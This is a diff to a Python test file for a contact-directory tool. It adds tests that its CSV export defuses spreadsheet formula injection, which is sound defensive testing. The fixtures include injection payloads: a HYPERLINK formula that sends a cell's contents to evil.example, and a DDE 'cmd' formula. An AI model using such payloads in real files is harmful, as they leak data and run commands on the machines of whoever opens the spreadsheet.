@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from cvdesk.cli.main import main
 from cvdesk.domain.errors import InvalidInput
@@ -177,3 +181,43 @@ def test_csv_that_cannot_be_read_names_the_line(svc: ContactService, tmp_path: P
         svc.import_file(path)
     assert err.value.field == "contacts file" and says in err.value.problem, err.value.problem
     assert svc.directory() == []
+
+
+@given(st.text())
+def test_a_csv_cell_reads_back_as_its_value(value: str) -> None:
+    from cvdesk.services.contacts import csv_cell, csv_value
+
+    cell = csv_cell(value)
+    assert csv_value(cell) == value
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_csv_export_does_not_hand_a_spreadsheet_formulas(svc: ContactService,
+                                                         db: Database, tmp_path: Path) -> None:
+    """Names from strangers (a vendor named in a report, a security.txt) reach the
+    export; a cell a spreadsheet would run as a formula gets an apostrophe in front, and
+    importing the file gives the same directory back."""
+    svc.add('=HYPERLINK("https://evil.example/?"&A1,"open")', ContactKind.EMAIL,
+            "psirt@evil.example")
+    svc.add("@SUM(1+1)*cmd|' /C calc'!A0", ContactKind.PHONE, "+1 555 0100")
+    svc.add("'=already quoted", ContactKind.URL, "https://quoted.example/")
+    svc.add("-2+3", ContactKind.EMAIL, "sec@minus.example")
+    text, count = svc.export_text("csv")
+    assert count == 4
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert "'+1 555 0100" in cells and "''=already quoted" in cells
+    exported = svc.export_rows()
+    path = tmp_path / "dir.csv"
+    path.write_text(text, encoding="utf-8")
+    fresh = ContactService(_other_db(tmp_path), svc.settings)
+    fresh.import_file(path)
+    assert fresh.export_rows() == exported
+
+
+def _other_db(tmp_path: Path) -> Database:
+    from cvdesk.services import init_database
+
+    other = Database(f"sqlite:///{tmp_path / 'other.db'}")
+    init_database(other)
+    return other
